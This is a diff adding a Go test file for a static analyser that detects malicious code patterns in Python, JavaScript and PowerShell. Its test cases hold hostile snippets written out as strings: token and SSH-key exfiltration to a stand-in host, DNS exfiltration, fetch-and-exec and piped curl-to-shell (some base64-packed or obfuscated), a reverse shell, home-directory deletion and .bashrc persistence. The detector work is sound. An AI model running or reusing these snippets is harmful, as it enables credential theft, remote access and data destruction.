@@ -1,0 +1,123 @@
+package codeflow
+
+import (
+	"encoding/base64"
+	"sort"
+	"strings"
+	"testing"
+)
+
+func kinds(src string, lang Lang) string {
+	fs, _ := Analyze(src, lang, nil)
+	var out []string
+	for _, f := range fs {
+		k := f.Kind.String()
+		if f.Kind == ShellFact {
+			k += ":" + f.Fact.String()
+		}
+		out = append(out, k)
+	}
+	sort.Strings(out)
+	return strings.Join(dedupe(out), ",")
+}
+
+func dedupe(xs []string) []string {
+	var out []string
+	for i, x := range xs {
+		if i == 0 || xs[i-1] != x {
+			out = append(out, x)
+		}
+	}
+	return out
+}
+
+func TestPython(t *testing.T) {
+	packed := base64.StdEncoding.EncodeToString([]byte("import os\nos.system('curl -s https://x.example/p.sh | sh')"))
+	cases := []struct{ src, want string }{
+		{"import os, requests\ntok = os.environ['GITHUB_TOKEN']\nrequests.post('https://x.example', data=tok)\n", "secret-send"},
+		{"import os, requests\nrequests.post('https://x.example', json={'t': os.getenv('NPM_TOKEN')})\n", "secret-send"},
+		{"import os, requests\nhome = os.environ['HOME']\nrequests.post('https://x.example', data='hi')\n", ""},
+		{"import os, base64\nsecret = os.environ['API_KEY']\nenc = base64.b64encode(secret.encode()).decode()\nos.popen(f'dig {enc}.x.example')\n", "secret-send"},
+		{"import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read().decode())\n", "fetch-exec"},
+		{"import requests\ncode = requests.get('https://x.example/a.py').text\nexec(code)\n", "fetch-exec"},
+		{"import base64\nexec(base64.b64decode('" + packed + "'))\n", "decode-exec,shell:pipe-to-shell"},
+		{"m = __import__('o' + 's')\nf = getattr(m, 'sys' + 'tem')\nf('\\x63\\x75\\x72\\x6c https://x.example/i.sh|sh')\n", "obfuscated,shell:pipe-to-shell"},
+		{"import os, shutil\nT = [os.path.expanduser('~'), '/tmp']\nfor t in T:\n    shutil.rmtree(t)\n", "destructive"},
+		{"import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/app'))\n", ""},
+		{"import subprocess\nsubprocess.run(['ls', '-l'])\n", ""},
+		{"import os\nos.system('echo hi')\n", ""},
+		{"import pty\npty.spawn('/bin/bash')\n", ""},
+		{"import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", "reverse-shell"},
+		{"with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", "persistence"},
+		{"import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example', data=key)\n", "secret-send"},
+		{"import os, requests, json\nrequests.post('https://x.example', data=json.dumps(dict(os.environ)))\n", "secret-send"},
+		{"import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))\n", ""},
+	}
+	for _, c := range cases {
+		if got := kinds(c.src, Python); got != c.want {
+			t.Errorf("%q:\n got %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
+func TestJS(t *testing.T) {
+	packed := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s https://x.example/p.sh | sh')"))
+	cases := []struct{ src, want string }{
+		{"const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = rc.match(/x/)[1];\nfetch('https://x.example/t', { method: 'POST', body: JSON.stringify({ token }) });\n", "secret-send"},
+		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => eval(body));\n});\n", "fetch-exec"},
+		{"const cfg = '" + packed + "';\neval(Buffer.from(cfg, 'base64').toString('utf8'));\n", "decode-exec,shell:pipe-to-shell"},
+		{"fetch('https://api.example/x', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}})\n", ""},
+		{"fetch('https://x.example/c', {method: 'POST', body: process.env.API_TOKEN})\n", "secret-send"},
+		{"fetch(`https://api.weather.example/v1?key=${process.env.WEATHER_API_KEY}`)\n", ""},
+		{"fetch(`https://x.example/v1?key=${process.env.GITHUB_TOKEN}`)\n", "secret-send"},
+		{"const r = await fetch('https://x.example/code.js');\nconst code = await r.text();\nnew Function(code)();\n", "fetch-exec"},
+		{"const { execSync } = require('child_process');\nexecSync('npm run build');\n", ""},
+		{"const x = String.fromCharCode(114,109,32,45,114,102,32,126);\nrequire('child_process').execSync(x);\n", "decode-exec,shell:destructive"},
+		{"console.log(JSON.stringify(data));\n", ""},
+		{"fs.rmSync(os.homedir(), { recursive: true, force: true });\n", "destructive"},
+	}
+	for _, c := range cases {
+		if got := kinds(c.src, JS); got != c.want {
+			t.Errorf("%q:\n got %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
+func TestPowerShell(t *testing.T) {
+	cases := []struct{ src, want string }{
+		{"iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\n", "fetch-exec"},
+		{"$c = Invoke-WebRequest -Uri https://x.example/a.ps1\nInvoke-Expression $c\n", "fetch-exec"},
+		{"$t = $env:GITHUB_TOKEN\nInvoke-RestMethod -Uri https://x.example -Method Post -Body $t\n", "secret-send"},
+		{"Get-ChildItem -Path .\\src\n", ""},
+		{"Remove-Item -Recurse -Force $env:USERPROFILE\n", "destructive"},
+	}
+	for _, c := range cases {
+		if got := kinds(c.src, PowerShell); got != c.want {
+			t.Errorf("%q:\n got %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
+func TestAcrossFiles(t *testing.T) {
+	a := "import os\ndef get_token():\n    return os.environ['GITHUB_TOKEN']\n"
+	b := "import requests\nfrom helpers import get_token\nrequests.post('https://x.example', data=get_token())\n"
+	_, sa := Analyze(a, Python, nil)
+	if sa.Funcs["get_token"]&Secret == 0 {
+		t.Fatalf("summary: %+v", sa)
+	}
+	fs, _ := Analyze(b, Python, sa)
+	if len(fs) != 1 || fs[0].Kind != SecretSend {
+		t.Fatalf("got %+v", fs)
+	}
+	if fs, _ := Analyze(b, Python, nil); len(fs) != 0 {
+		t.Fatalf("without the summary: %+v", fs)
+	}
+}
+
+func TestHostile(t *testing.T) {
+	for _, lang := range []Lang{Python, JS, PowerShell} {
+		for _, s := range []string{strings.Repeat("(", 100000), strings.Repeat("f(", 50000), strings.Repeat("a = a + a\n", 20000), strings.Repeat("'", 10001), strings.Repeat("x.", 50000), "\"\\x", "`${", "@\"", strings.Repeat("eval(atob('", 1000)} {
+			Analyze(s, lang, nil)
+		}
+	}
+}
